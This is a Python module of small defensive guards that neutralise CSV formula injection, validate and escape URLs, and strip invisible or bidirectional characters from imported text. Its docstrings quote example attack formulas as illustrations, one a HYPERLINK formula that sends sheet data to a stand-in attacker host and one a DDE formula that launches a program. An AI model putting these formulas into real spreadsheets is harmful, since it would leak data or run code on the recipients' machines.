"""Small pure guards for text that leaves claimdesk (spreadsheets, links) or enters it (imported cells).

- :func:`neutralise_cell` defuses CSV formula injection as OWASP recommends: a spreadsheet
  evaluates a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
  formula (``=HYPERLINK("http://evil.example/?d="&A1,"Click me")`` leaks the sheet when clicked,
  ``=cmd|' /C calc'!A0`` runs a program through DDE), so such a cell gets a leading ``'``, which
  spreadsheets read as "this is text".
- :func:`strip_cell` trims an imported cell without uncovering such a formula: ``"\\t=cmd|..."``
  stays as given instead of becoming ``"=cmd|..."``.
- :func:`safe_url` accepts only ``http``/``https`` URLs with a host and nothing that could split
  or escape them (whitespace, quotes, control characters); :func:`escape_url` percent-encodes
  those characters where a URL must be written out whatever it holds.
- :func:`strip_invisible` removes the characters a reviewer cannot see from imported text:
  zero-width characters, bidirectional overrides, embeddings and isolates, and stray control
  characters. ``"Taxes rose 5\u200b%"`` and ``"Taxes rose 5%"`` look the same but would be two
  different claims; ``"\u202eevil"`` shows as ``"live"``; an escape sequence rewrites the terminal
  a CLI prints to. Text in Arabic, Hebrew or any other script is kept as it is.
"""

from __future__ import annotations

import re
import unicodedata
from urllib.parse import urlsplit

__all__ = ["FORMULA_TRIGGERS", "INVISIBLE_CHARACTERS", "neutralise_cell", "strip_cell", "safe_url", "escape_url",
           "strip_invisible"]

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection")."""

_URL_SCHEMES = ("http", "https")
_URL_QUOTES = frozenset("\"'`")


def neutralise_cell(value: str) -> str:
    """``value`` with a ``'`` in front when it begins with a formula trigger; otherwise unchanged.

    The quote makes Excel, LibreOffice and Google Sheets show the cell as text instead of running
    it. The caller still writes the cell with CSV quoting, so a separator or a quote inside it
    cannot end the cell early and start a new, unprotected one.
    """
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def strip_cell(value: str, *, collapse: bool = False) -> str:
    """An imported cell without its surrounding whitespace (inner runs made one space if ``collapse``).

    The leading whitespace is kept, as given, when removing it would leave a text that begins
    with a formula trigger: trimming ``"\\t=cmd|' /C calc'!A0"`` must not manufacture the formula
    ``"=cmd|' /C calc'!A0"``. A whitespace-only cell still comes out empty.
    """
    tidy = " ".join(value.split()) if collapse else value.strip()
    if tidy.startswith(FORMULA_TRIGGERS) and value[:1].isspace():
        return value[: len(value) - len(value.lstrip())] + tidy
    return tidy


def _unsafe_char(ch: str) -> bool:
    # whitespace and quotes split or end a URL in text, CSV and HTML; control and format characters
    # (NUL, DEL, zero-width, right-to-left overrides) hide what a link really points to
    return ch.isspace() or ch in _URL_QUOTES or unicodedata.category(ch) in ("Cc", "Cf")


def safe_url(url: str) -> str | None:
    """``url`` without surrounding whitespace when it is an http(s) URL with a host and no whitespace,
    quotes (``"``, ``'``, backtick) or control characters inside; None for anything else
    (``javascript:``, ``file://``, ``data:``, relative links, links with spaces)."""
    candidate = url.strip()
    if not candidate or any(_unsafe_char(ch) for ch in candidate):
        return None
    try:
        parts = urlsplit(candidate)
        host = parts.hostname
    except ValueError:  # an unclosed IPv6 bracket and the like
        return None
    if parts.scheme.lower() not in _URL_SCHEMES or not host:
        return None
    return candidate


def escape_url(url: str) -> str:
    """``url`` with every whitespace, quote and control character percent-encoded (as UTF-8 bytes),
    so the URL stays one token wherever it is written; a clean URL comes back unchanged."""
    return "".join("".join(f"%{b:02X}" for b in ch.encode("utf-8")) if _unsafe_char(ch) else ch
                   for ch in url)


INVISIBLE_CHARACTERS = (
    "\u200b"          # zero-width space
    "\u200e\u200f"    # left-to-right and right-to-left marks
    "\u061c"          # Arabic letter mark
    "\u202a-\u202e"   # bidirectional embeddings and overrides (U+202E shows "evil" as "live")
    "\u2060-\u2064"   # word joiner and the invisible mathematical operators
    "\u2066-\u2069"   # bidirectional isolates
    "\ufeff"          # zero-width no-break space (a byte-order mark inside the text)
    "\x00-\x08\x0b\x0e-\x1f\x7f-\x9f"  # control characters other than tab, newline, CR and form feed
)
"""The characters :func:`strip_invisible` removes, as a regular-expression character class."""

_INVISIBLE = re.compile(f"[{INVISIBLE_CHARACTERS}]")
# Zero-width (non-)joiners spell Persian, Urdu and Indic words and join emoji sequences; they are kept
# between two non-ASCII characters and removed elsewhere, where they only make equal texts differ.
_STRAY_JOINER = re.compile(r"(?<![^\x00-\x7f])[\u200c\u200d]|[\u200c\u200d](?![^\x00-\x7f])")


def strip_invisible(text: str) -> str:
    """``text`` without zero-width characters, bidirectional controls and stray control characters.

    Such characters hide text from a reviewer (``"\u202e"`` reverses what follows on screen, an
    escape sequence rewrites a terminal) and make two texts that look identical differ, so one claim
    is stored twice and a search misses it. Letters of any script, tabs, line breaks and form feeds
    stay; the zero-width joiner and non-joiner stay between two non-ASCII characters, where Persian,
    Indic scripts and emoji need them.
    """
    text = _INVISIBLE.sub("", text)
    if "\u200c" in text or "\u200d" in text:  # rare: the contextual pattern is slow on long texts
        text = _STRAY_JOINER.sub("", text)
    return text
